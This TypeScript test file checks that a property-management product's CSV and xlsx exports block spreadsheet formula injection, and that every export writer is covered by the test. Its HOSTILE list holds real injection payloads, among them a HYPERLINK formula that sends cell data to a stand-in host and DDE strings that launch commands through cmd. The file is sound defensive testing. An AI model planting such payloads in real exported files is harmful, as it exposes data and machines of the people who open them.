// Formula injection (issue 22, finding 8; OWASP "CSV Injection", ASVS 5.0 1.2.10): every CSV and
// xlsx the product writes, listed in one table, is produced end to end with a hostile value in
// each text it shows, read back, and must hold every one of them behind a leading quote, no text
// cell a spreadsheet would run, and its numbers as numbers. A scan of the sources finds every
// writer, so a new export or report that is not in the table (or skips the writers) fails here.
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { organizations, users } from '../../src/server/db/schema.ts';
import { saleBuyers, sales, saleScheduleLines, saleSchedules } from '../../src/server/db/sales-schema.ts';
import { widgetCsvText } from '../../src/client/dashboards/widgetTable.ts';
import { parseCsv } from '../../src/shared/csv.ts';
import { inertText, spreadsheetCell, startsLikeFormula } from '../../src/shared/spreadsheet-cells.ts';
import { multipart } from './support/files.ts';
import { insertBuilding, insertProject, insertUnit, inventoryApi } from './support/inventory.ts';
import { call, createTestContext, type TestContext } from './support/testApp.ts';
import { buildWorld, type World } from './support/world.ts';
import { expectEvery } from '../support/expect-every.ts';

/** One value per way a cell can start a formula, `+` and `-` before digits, spaces, `.` and `(` included. */
const HOSTILE = [
  '=HYPERLINK("http://evil.test/?"&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '- 1+1',
  '-.5+1',
  '-(1+1)',
  '+ 1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=2+2',
  '\n=3+3',
];

type Cell = unknown;

interface Writer {
  name: string;
  /** The files that hand rows to a writer (formatCsv, sendWorkbook, writeWorkbook). */
  sources: string[];
  /** A number the file must hold as a number (negative where the writer has one), as read back. */
  number: number | string;
  /** Puts every hostile value into what the file shows, and answers the file's cells. */
  produce(ctx: TestContext, w: World, hostile: string[]): Promise<Cell[][]>;
}

async function xlsxCells(payload: Buffer): Promise<Cell[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(payload as unknown as ArrayBuffer);
  const rows: Cell[][] = [];
  workbook.worksheets[0]!.eachRow((row) => rows.push((row.values as Cell[]).slice(1)));
  return rows;
}

/** A CSV line with every field quoted, so the upload carries tabs, line breaks and quotes as they are. */
const csvLine = (fields: string[]) => fields.map((field) => `"${field.replace(/"/g, '""')}"`).join(',');

/** The hostile value at `i`, wrapping: lets a row put a different one in each of its columns. */
const pick = (hostile: string[], i: number) => hostile[i % hostile.length]!;

const WRITERS: Writer[] = [
  {
    name: 'projects export (xlsx)',
    sources: ['src/server/modules/inventory/exports.routes.ts'],
    number: -25.25,
    async produce(ctx, w, hostile) {
      for (const [i, name] of hostile.entries()) {
        await insertProject(ctx.db, w.developerId, {
          name,
          city: pick(hostile, i + 1),
          community: pick(hostile, i + 2),
          address: pick(hostile, i + 3),
          regulator_number: pick(hostile, i + 4),
          escrow_account: pick(hostile, i + 5),
          latitude: -25.25,
          longitude: -55.5,
        });
      }
      const res = await inventoryApi(ctx).get(w.actors.developer_admin, 'inventory/projects/export');
      expect(res.statusCode).toBe(200);
      return xlsxCells(res.rawPayload);
    },
  },
  {
    name: 'buildings export (xlsx)',
    sources: ['src/server/modules/inventory/exports.routes.ts'],
    number: 12,
    async produce(ctx, w, hostile) {
      for (const [i, name] of hostile.entries()) {
        const project = await insertProject(ctx.db, w.developerId, { name: pick(hostile, i + 1) });
        await insertBuilding(ctx.db, w.developerId, project.id, { name, floors: 12 });
      }
      const res = await inventoryApi(ctx).get(w.actors.developer_admin, 'inventory/buildings/export');
      expect(res.statusCode).toBe(200);
      return xlsxCells(res.rawPayload);
    },
  },
  {
    name: 'units export (xlsx)',
    sources: ['src/server/modules/inventory/units.routes.ts'],
    number: -2,
    async produce(ctx, w, hostile) {
      for (const [i, unitNumber] of hostile.entries()) {
        const project = await insertProject(ctx.db, w.developerId, { name: pick(hostile, i + 1) });
        const building = await insertBuilding(ctx.db, w.developerId, project.id, { name: pick(hostile, i + 2) });
        await insertUnit(ctx.db, w.developerId, building.id, {
          unit_number: unitNumber,
          floor: -2,
          status_changed_by: w.actors.developer.userId,
          status_changed_at: new Date(),
        });
      }
      const res = await inventoryApi(ctx).get(w.actors.developer_admin, 'inventory/units/export');
      expect(res.statusCode).toBe(200);
      return xlsxCells(res.rawPayload);
    },
  },
  {
    name: 'collections export (xlsx)',
    sources: ['src/server/modules/collections/collections.routes.ts'],
    number: 12.5,
    async produce(ctx, w, hostile) {
      for (const [i, label] of hostile.entries()) {
        const project = await insertProject(ctx.db, w.developerId, { name: pick(hostile, i + 1) });
        const building = await insertBuilding(ctx.db, w.developerId, project.id, { name: pick(hostile, i + 2) });
        const unit = await insertUnit(ctx.db, w.developerId, building.id, { unit_number: pick(hostile, i + 3), status: 'booked' });
        const [sale] = await ctx.db
          .insert(sales)
          .values({
            organization_id: w.developerId,
            unit_id: unit.id,
            currency: 'AED',
            list_price: 1_250,
            final_price: 1_250,
            booking_date: '2026-01-01',
            seller_type: 'developer',
          })
          .returning();
        const [schedule] = await ctx.db
          .insert(saleSchedules)
          .values({
            organization_id: w.developerId,
            sale_id: sale!.id,
            version: 1,
            source: 'custom',
            plan_name: 'Custom',
            installments: [],
          })
          .returning();
        await ctx.db.insert(saleScheduleLines).values({
          organization_id: w.developerId,
          schedule_id: schedule!.id,
          sale_id: sale!.id,
          sequence: 1,
          label,
          percentage_hundredths: 10_000,
          due_type: 'on_booking',
          due_date: '2026-01-01',
          amount: 1_250,
        });
        await ctx.db
          .insert(saleBuyers)
          .values({ organization_id: w.developerId, sale_id: sale!.id, position: 0, full_name: pick(hostile, i + 4) });
      }
      const res = await inventoryApi(ctx).get(w.actors.developer_admin, 'collections/export');
      expect(res.statusCode).toBe(200);
      return xlsxCells(res.rawPayload);
    },
  },
  {
    name: 'lead import rejection report (csv)',
    sources: ['src/server/modules/crm/lead-import.service.ts'],
    number: '2',
    async produce(ctx, w, hostile) {
      // Neither email nor phone: every row is rejected and comes back in the report as it was
      // sent, its hostile name and extra cell with it; a hostile header names the extra column.
      const file = [
        csvLine(['name', 'email', 'phone', hostile[0]!]),
        ...hostile.map((name, i) => csvLine([name, '', '', pick(hostile, i + 1)])),
      ].join('\r\n');
      const { body, headers } = multipart({
        organization_id: String(w.actors.broker_admin.orgId),
        preview: 'true',
        file: { filename: 'leads.csv', content: Buffer.from(file, 'utf8'), type: 'text/csv' },
      });
      const res = await call(ctx.app, 'POST', 'crm/leads/import', { token: w.actors.broker_admin.token, body, headers });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json().data.rejected).toHaveLength(hostile.length);
      return parseCsv(res.json().data.report);
    },
  },
  {
    name: 'inventory snapshot report (xlsx)',
    sources: ['src/server/modules/reports/reports.routes.ts'],
    number: 4,
    async produce(ctx, w, hostile) {
      // The report exports share one route file and one streaming writer: the snapshot shows the
      // most of the users' own text (unit numbers, building and project names).
      for (const [i, unitNumber] of hostile.entries()) {
        const project = await insertProject(ctx.db, w.developerId, { name: pick(hostile, i + 1) });
        const building = await insertBuilding(ctx.db, w.developerId, project.id, { name: pick(hostile, i + 2) });
        await insertUnit(ctx.db, w.developerId, building.id, { unit_number: unitNumber, bedrooms: 4 });
      }
      const res = await call(ctx.app, 'GET', 'reports/inventory-snapshot/export', {
        token: w.actors.developer_admin.token,
        query: { organization_id: String(w.developerId) },
      });
      expect(res.statusCode, res.body).toBe(200);
      return xlsxCells(res.rawPayload);
    },
  },
  {
    name: 'sales recorded report (xlsx)',
    sources: ['src/server/modules/reports/reports.routes.ts'],
    number: 3,
    async produce(ctx, w, hostile) {
      // The project names are the users' own; each project has three sales booked on one day.
      for (const name of hostile) {
        const project = await insertProject(ctx.db, w.developerId, { name, currency: 'AED' });
        const building = await insertBuilding(ctx.db, w.developerId, project.id);
        for (let i = 0; i < 3; i += 1) {
          const unit = await insertUnit(ctx.db, w.developerId, building.id, { status: 'booked' });
          await ctx.db.insert(sales).values({
            organization_id: w.developerId,
            unit_id: unit.id,
            currency: 'AED',
            list_price: 100_000,
            final_price: 100_000,
            booking_date: '2026-03-10',
            seller_type: 'developer',
          });
        }
      }
      const res = await call(ctx.app, 'GET', 'reports/sales-recorded/export', {
        token: w.actors.developer_admin.token,
        query: { organization_id: String(w.developerId), from: '2026-03-01', to: '2026-03-31' },
      });
      expect(res.statusCode, res.body).toBe(200);
      return xlsxCells(res.rawPayload);
    },
  },
  {
    name: 'dashboard widget table (csv, written in the browser)',
    sources: ['src/client/dashboards/widgetTable.ts'],
    // Counts and minor units: never negative.
    number: '12',
    async produce(_ctx, _w, hostile) {
      // Project and stage names are the users' own; the headers are translated texts.
      const csv = widgetCsvText({
        columns: [hostile[0]!, 'Units'],
        rows: hostile.map((name) => [{ text: name }, { text: '12', value: 12 }]),
      });
      return parseCsv(csv);
    },
  },
];

describe('the spreadsheet cell guard', () => {
  it('prefixes a quote to text starting with = + - @, a tab, a line break or NUL', () => {
    for (const value of [...HOSTILE, '=1', '+', '-', '@', '\0x', '+971 50 123 4567', '-5']) expect(inertText(value)).toBe(`'${value}`);
    expectEvery(HOSTILE, startsLikeFormula);
  });

  it('leaves other text, and every number or date, as it is', () => {
    for (const value of ['Sara', '971 50 123 4567', ' =1', "'=1", '', 'a=b', '5-3', '(1)', '.5']) expect(inertText(value)).toBe(value);
    expect(spreadsheetCell(-5)).toBe(-5);
    expect(spreadsheetCell(-0.25)).toBe(-0.25);
    expect(spreadsheetCell(null)).toBeNull();
    const date = new Date('2026-01-02T03:04:05Z');
    expect(spreadsheetCell(date)).toBe(date);
    expect(spreadsheetCell('-5')).toBe("'-5");
  });
});

describe('every spreadsheet the product writes holds hostile text inert', () => {
  let ctx: TestContext;
  let w: World;
  beforeAll(async () => {
    ctx = await createTestContext();
    w = await buildWorld(ctx.db);
    // Names every export shows beside the rows' own: the developer's and a status changer's.
    await ctx.db.update(organizations).set({ name: '-1+1 Developer' }).where(eq(organizations.id, w.developerId));
    await ctx.db.update(users).set({ full_name: '@Dev Member' }).where(eq(users.id, w.actors.developer.userId));
  });
  afterAll(() => ctx.close());

  it.each(WRITERS.map((writer) => [writer.name, writer] as const))('%s', async (_name, writer) => {
    const cells = await writer.produce(ctx, w, HOSTILE);
    const texts = cells.flat().filter((cell): cell is string => typeof cell === 'string');
    // Every hostile value came out, behind its quote (an xlsx reads a carriage return back as a line feed).
    const shown = new Set(texts.map((text) => text.replace(/\r\n?/g, '\n')));
    const missing = HOSTILE.filter((value) => !shown.has(`'${value}`.replace(/\r\n?/g, '\n')));
    expect(missing).toEqual([]);
    // …and no text cell anywhere in the file (headers, names, reasons) could start a formula.
    expect(texts.filter(startsLikeFormula)).toEqual([]);
    expect(cells.flat()).toContain(writer.number);
  });

  it('lists every writer: the sources handing rows to a CSV or xlsx writer are the ones in the table', () => {
    const root = join(import.meta.dirname, '../..');
    const files = (dir: string): string[] =>
      readdirSync(dir, { withFileTypes: true }).flatMap((entry) =>
        entry.isDirectory() ? files(join(dir, entry.name)) : /\.tsx?$/.test(entry.name) ? [join(dir, entry.name)] : [],
      );
    const sources = files(join(root, 'src')).map((file) => ({ path: relative(root, file), text: readFileSync(file, 'utf8') }));
    const WRITER_MODULES = ['src/shared/csv-writer.ts', 'src/server/modules/inventory/xlsx-stream.ts'];

    const callers = sources
      .filter((file) => !WRITER_MODULES.includes(file.path) && /\b(formatCsv|sendWorkbook|writeWorkbook)\(/.test(file.text))
      .map((file) => file.path);
    expect(callers.sort()).toEqual([...new Set(WRITERS.flatMap((writer) => writer.sources))].sort());
    // Only the xlsx writer opens a workbook; no other spreadsheet library (or react-admin's CSV
    // exporter) writes one, and no module but the writers sets a spreadsheet content type. The
    // CSV reader (shared/csv.ts) uses papaparse to read only: nothing calls its writer, unparse.
    expect(
      sources
        .filter((file) =>
          /from '(exceljs|xlsx|papaparse|json2csv|jsonexport|csv-stringify[^']*|@fast-csv\/[^']*|fast-csv)'/.test(file.text),
        )
        .map((file) => file.path),
    ).toEqual(['src/server/modules/inventory/xlsx-stream.ts', 'src/shared/csv.ts']);
    expect(sources.filter((file) => /\bunparse\b/.test(file.text)).map((file) => file.path)).toEqual([]);
    expect(sources.filter((file) => /\bdownloadCSV\b/.test(file.text)).map((file) => file.path)).toEqual([]);
    expect(
      sources.filter((file) => file.path.startsWith('src/server/') && /text\/csv|spreadsheetml/.test(file.text)).map((file) => file.path),
    ).toEqual(['src/server/modules/inventory/xlsx-stream.ts']);
  });
});
